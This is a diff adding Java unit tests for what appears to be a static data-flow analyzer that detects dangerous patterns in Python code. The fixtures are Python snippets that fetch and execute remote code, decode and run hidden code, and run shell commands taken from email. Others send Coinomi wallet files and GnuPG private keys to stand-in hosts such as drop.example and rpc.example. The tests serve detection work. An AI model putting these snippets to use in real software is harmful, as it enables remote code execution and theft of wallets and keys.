@@ -105,6 +105,26 @@ class DataFlowTest {
     }
 
     @Test
+    void anInterpretersRunsourceRunsTheTextItIsGiven() {
+      assertThat(
+              reached(
+                  "exec-fetched",
+                  lines(
+                      "import code, urllib.request",
+                      "text = urllib.request.urlopen('https://x.example/b.txt').read().decode()",
+                      "code.InteractiveInterpreter({}).runsource(text, '<b>', 'exec')")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines(
+                      "import base64, code",
+                      "console = code.InteractiveConsole()",
+                      "console.runcode(compile(base64.b32hexdecode(K), '<k>', 'exec'))")))
+          .contains(3);
+    }
+
+    @Test
     void forgetsANameAssignedAgainFromSomethingElse() {
       assertThat(
               reached(
@@ -211,6 +231,22 @@ class DataFlowTest {
 
   @Nested
   class RunningCommands {
+
+    @Test
+    void aMailboxReadIsReceivedFromTheNetwork() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import email, imaplib, subprocess",
+                      "box = imaplib.IMAP4_SSL('mail.example')",
+                      "_, found = box.search(None, 'UNSEEN')",
+                      "for num in found[0].split():",
+                      "    _, data = box.fetch(num, '(RFC822)')",
+                      "    order = email.message_from_bytes(data[0][1]).get_payload()",
+                      "    subprocess.Popen(order, shell=True)")))
+          .contains(7);
+    }
 
     @Test
     void aCommandFromTheNetworkIsFollowedToTheProgramPosition() {
@@ -483,11 +519,43 @@ class DataFlowTest {
     }
 
     @Test
+    void anSftpUploadAndAnXmlRpcCallAreSends() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import os, paramiko",
+                      "src = os.path.join(os.environ['LOCALAPPDATA'], 'Coinomi', 'wallets')",
+                      "t = paramiko.Transport(('drop.example', 22))",
+                      "paramiko.SFTPClient.from_transport(t).put(src, '/in/w')")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import pathlib, xmlrpc.client",
+                      "keys = pathlib.Path.home() / '.gnupg' / 'private-keys-v1.d'",
+                      "blob = {p.name: p.read_bytes() for p in keys.glob('*.key')}",
+                      "xmlrpc.client.ServerProxy('https://rpc.example/api').store(blob)")))
+          .contains(4);
+      // a local file put on the package's own server is not a secret sent
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import paramiko",
+                      "sftp = client.open_sftp()",
+                      "sftp.put('dist/report.html', '/srv/reports/report.html')")))
+          .isEmpty();
+    }
+
+    @Test
     void anotherProgramsApplicationDataIsFollowedLikeItsHiddenFiles() {
       for (String path :
           List.of(
               "os.path.join(os.environ['LOCALAPPDATA'], 'Vendor', 'state.json')",
               "os.path.join(os.getenv('APPDATA'), 'Vendor', 'state.json')",
+              "os.path.join(os.environ.get('APPDATA', ''), '.vendor', 'state.json')",
               "os.path.expanduser('~/Library/Application Support/Vendor/state.json')")) {
         assertThat(
                 reached(
